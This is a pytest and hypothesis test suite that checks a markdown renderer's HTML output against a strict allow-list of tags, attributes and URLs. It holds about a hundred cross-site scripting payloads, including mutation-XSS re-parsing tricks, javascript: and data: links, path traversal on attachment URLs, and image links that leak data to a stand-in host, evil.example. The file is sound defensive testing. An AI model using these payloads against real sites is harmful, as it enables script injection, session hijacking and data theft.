"""No text runs, loads, imitates or clobbers anything: judged by parsing the answer, not by looking for bad words."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lib.markdown import render

PLAIN = "p br hr h3 h4 h5 h6 strong em s figcaption thead tbody tr"
MATHS = (
    "mrow mi mn mo ms mtext mspace mfrac msqrt mroot msub msup msubsup munder mover munderover mmultiscripts "
    "mprescripts mtable mtr mtd mlabeledtr mstyle mpadded mphantom menclose"
)
SETTING = (
    "stretchy width linethickness mathcolor mathvariant displaystyle columnalign rowspacing columnspacing notation "
    "fence form accent linebreak scriptlevel minsize maxsize movablelimits separator largeop accentunder "
    "rowlines columnlines"
)
ATTRIBUTES = {
    "a": {"href", "title", "class", "rel", "target", "aria-label"},
    "img": {"src", "alt", "loading"},
    "ol": {"start", "dir"},
    **{tag: {"dir"} for tag in ("ul", "blockquote", "table")},
    "label": {"class"},
    "input": {"type"},
    "li": {"class", "id"},
    "sup": {"class", "id", "title"},
    "span": {"class", "role", "aria-label"},
    "div": {"class", "tabindex", "role", "aria-label"},
    "section": {"class", "aria-label"},
    "pre": {"class", "tabindex"},
    "math": {"display", "alttext"},
    **{tag: {"class"} for tag in ("code", "figure", "th", "td")},
    **{tag: set() for tag in PLAIN.split()},
    **{tag: set(SETTING.split()) for tag in MATHS.split()},
}
HREF = re.compile(
    r"https?://[^/?#\\@\s]+([/?#].*)?|mailto:[^/\\]+|/([^/\\].*)?|#fn(ref)?-[\w-]*\d+", re.IGNORECASE | re.DOTALL
)
SRC = re.compile(r"/attachments/(?!.*\.\.)(?!.*%2e)[\w%./-]+", re.IGNORECASE)


class Judge(HTMLParser):
    """Fails on any element, attribute, class or address that we would not write ourselves."""

    def __init__(self, html):
        super().__init__()
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        assert tag in ATTRIBUTES, tag
        for name, value in attrs:
            assert name in ATTRIBUTES[tag], (tag, name)
            assert name != "href" or HREF.fullmatch(value), value
            assert name != "src" or SRC.fullmatch(value), value
            assert name != "id" or re.fullmatch(r"fn(ref)?-[\w-]*\d+", value), value
            assert name != "class" or re.fullmatch(r"[a-z_-]{1,20}( is-alone)?", value), value
            assert name != "type" or value == "checkbox", value
            assert name != "dir" or value == "auto", value
        assert tag != "a" or dict(attrs)["rel"] == "noopener noreferrer nofollow"

    def handle_comment(self, data):
        pytest.fail("a comment")

    def handle_decl(self, decl):
        pytest.fail("a declaration")

    def handle_pi(self, data):
        pytest.fail("a processing instruction")

    def handle_data(self, data):
        self.text += data


@pytest.mark.parametrize("html", ["<script>", "<p onclick=x>", "<a href=javascript:x rel=''>", "<p id=x>", "<!-- -->"])
def test_the_judge_sees_what_is_wrong(html):
    with pytest.raises((AssertionError, pytest.fail.Exception)):
        Judge(html)


PAYLOADS = [
    # elements and handlers
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x",
    "<button formaction=javascript:alert(1)>x",
    "<video><source onerror=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style='background:url(//evil.example/x)'>",
    "<x-foo onclick=alert(1)>",
    # what our own page would run
    "<div hx-get=/logout hx-trigger=load>",
    "<div data-hx-post=/x hx-on:load=alert(1)>",
    "<copy-button value=x></copy-button>",
    "<template><img src=x onerror=alert(1)></template>",
    # re-parsing
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<plaintext><script>alert(1)",
    "</code></pre></div><script>alert(1)</script>",
    "<a href=\"`\"onmouseover=alert(1)//`\">",
    # addresses
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](blob:https://a/b)",
    "[x](file:///etc/passwd)",
    "[x](view-source:https://a.example)",
    "[x](ms-msdt:/id)",
    "[x](intent://x#Intent;end)",
    "[x](ssh://host)",
    "[x](feed:javascript:alert(1))",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:evil.example)",
    "[x](https:/evil.example)",
    "[x](https:///evil.example)",
    "[x](https://bank.example@evil.example/)",
    "[x](https://bank.example%40a:b@evil.example/)",
    "[x](https://bank.example\\@evil.example/)",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](https://a.example 'x\" onmouseover=\"alert(1)')",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://a.example/\"onclick=alert(1)>",
    "https://a.example/\"onmouseover=alert(1)",
    "https://a.example/'><script>alert(1)</script>",
    "https://user:pass@evil.example/",
    "[x](#location)",
    "[x](mailto:a@b.example?body=<script>)",
    # pictures and leaks
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/leak.png",
    "![x](//evil.example/x.png)",
    "![x](data:image/svg+xml;base64,AAAA)",
    "![x](/api/v1/logout)",
    "![x](/attachments/../accounts/logout)",
    "![x](/attachments/%2e%2e/accounts/logout)",
    "![x](/attachments/.%2E/accounts/logout)",
    "![x](/attachments/a/..%2fb)",
    "![x](/attachments/a?next=/logout)",
    "![\"onerror=alert(1)](https://a.example/x.png)",
    "![x](javascript:alert(1))",
    # code, tables, footnotes, tasks
    "```\"><script>alert(1)</script>\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    "```<img/src=x/onerror=alert(1)>\nx\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "A[^<script>].\n\n[^<script>]: <script>alert(1)</script>",
    "A[^\"onclick=alert(1)].\n\n[^\"onclick=alert(1)]: x",
    "- [x] <script>alert(1)</script>",
    "【1†\" onmouseover=alert(1) x=\"】",
    "【1†<script>alert(1)</script>】",
    "\ue200entity\ue202[\"a\",\"<script>alert(1)</script>\"]\ue201",
    # formulas
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{</math><img src=x onerror=alert(1)>}$",
    "$\\text{&lt;script&gt;&#60;img src=x onerror=alert(1)&#62;}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{position:fixed}{x}$",
    "$\\class{btn}{x}$",
    "$\\color{red;background:url(//evil.example)}{x}$",
    "$x\" onclick=\"alert(1)$",
    "$$\\begin{array}{c\" onclick=\"alert(1)}x\\end{array}$$",
    "$\\mathrm{<annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)>}$",
    # attribute syntaxes that are not ours
    "# Heading {#location onclick=alert(1)}",
    "[x](https://a.example){onclick=alert(1) style=color:red}",
    "<a name=location>",
    "<form id=document><input name=cookie>",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_only_words(payload):
    around = ["{}", "> {}", "- a\n- {}", "*{}*", "[{}](https://a.example)", "a\n{}\n", "|{}|\n|-|\n|{}|", "[^1]: {}"]
    for frame in around:
        text = frame.replace("{}", payload)
        Judge(render(text))
        Judge(render(text, breaks=True, anchor='"><script>'))


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if p[0] == "<" and "`" not in p and "https:" not in p])
def test_html_is_shown_and_not_swallowed(payload):
    assert "".join(Judge(render(payload)).text.split()) == "".join(payload.split())


@pytest.mark.parametrize(
    "text", ["a\x00b", "a\ud800b", "\udfff" * 100, "\x02\x03\x0b\x7f", "`\x00`", "$\ud800$", "[\x00](\x00)"]
)
def test_what_cannot_be_stored_does_not_raise(text):
    html = render(text)

    Judge(html)
    assert "\x00" not in html
    html.encode()


@pytest.mark.parametrize(
    "text", ["> " * 30 + "deep", "- " * 30 + "deep", "[" * 50 + "deep" + "](/a)" * 50, "[^1]: " * 30 + "deep"]
)
def test_depth_loses_nothing(text):
    assert "deep" in Judge(render(text)).text


SYNTAX = (
    "* ** _ ~~ ` ``` ~~~ $ $$ \\( \\) \\[ \\] [ ] ( ) ![ ]( < > & &lt; &#60; | |-|-|\n "
    "\n \n\n # - 1. [^1] [^1]: "
    "[x] \" ' = \\ {{ }} <script> </script> <img onerror= javascript: https:// //evil.example @ : "
    "\t \\text{ \\frac{ } ^ \ue200 \ue201 /attachments/ .. %2e <svg> <math> "
    "</math> <!-- --> ```html\n ```py\n 【1† 】 a b \x00 \ud800 é 漢"
)
MIXTURES = st.lists(st.sampled_from(SYNTAX.split(" ")) | st.text(max_size=4), max_size=40).map("".join)


@settings(max_examples=400)
@given(MIXTURES, st.booleans())
def test_no_mixture_of_syntax_gets_through(text, breaks):
    Judge(render(text, breaks=breaks))
